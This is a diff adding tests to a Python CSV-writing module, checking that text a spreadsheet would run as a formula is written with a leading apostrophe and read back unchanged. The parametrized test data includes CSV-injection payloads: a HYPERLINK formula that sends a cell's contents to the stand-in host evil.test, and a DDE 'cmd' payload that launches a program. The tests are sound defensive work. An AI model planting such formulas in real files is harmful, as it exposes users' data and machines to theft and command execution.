@@ -56,3 +56,51 @@ def test_written_files_have_the_bom_crlf_and_read_back(tmp_path: Path) -> None:
     sheet = csv_files.read(path)
     assert sheet.rows[0].cells == ("Acme, Inc.", 'He said "yes"\nthen left')
     assert sheet.rows[1].cells == ("台積電", "")
+
+
+# --- formulas: a text a spreadsheet would run is written as text, and reads back as it was ---
+
+from hypothesis import given  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+TRIGGERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+# texts that start like formulas, with apostrophes before them, or anything at all
+_cell = st.one_of(
+    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")),
+    st.builds(lambda q, t, rest: "'" * q + t + rest, st.integers(0, 3), st.sampled_from(TRIGGERS),
+              st.text(alphabet=st.sampled_from("'=+-@()|!\"AZaz09 .,\t\n:/\\"), max_size=12)),
+)
+
+
+def _spreadsheet_runs(cell: str) -> bool:
+    """Whether a spreadsheet would take ``cell`` for a formula that does more than arithmetic on
+    digits (a number or a phone number: -1250.5, +886 2 2345 6789)."""
+    if not cell or cell[0] not in TRIGGERS:
+        return False
+    return not all(ch in "0123456789 ().-+/eE" for ch in cell)
+
+
+@given(st.lists(st.lists(_cell, min_size=1, max_size=4), min_size=1, max_size=5))
+def test_every_text_reads_back_as_written_and_none_runs_as_a_formula(rows: list[list[str]]) -> None:
+    width = max(len(r) for r in rows)
+    rows = [r + [""] * (width - len(r)) for r in rows]
+    data = csv_files.write([f"c{i}" for i in range(width)], rows)
+    sheet = csv_files.parse(csv_files.decode(data, "t.csv")[0], "t.csv")
+    assert [list(r.cells) for r in sheet.rows] == rows
+    import csv
+    import io
+
+    raw = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
+    assert not any(_spreadsheet_runs(cell) for row in raw for cell in row)
+
+
+@pytest.mark.parametrize(("typed", "written"), [
+    ('=HYPERLINK("http://evil.test/?"&A1,"Open")', '\'=HYPERLINK("http://evil.test/?"&A1,"Open")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("@SUM(1+1)", "'@SUM(1+1)"), ("+A1", "'+A1"), ("- call Tom first", "'- call Tom first"),
+    ("\uff1d1+1", "'\uff1d1+1"), ("'=already", "''=already"),
+    ("-1250.5", "-1250.5"), ("+886 2 2345 6789", "+886 2 2345 6789"), ("'quoted", "'quoted"),
+])
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe(typed: str, written: str) -> None:
+    assert csv_files.defused(typed) == written
+    assert csv_files.restored(written) == typed
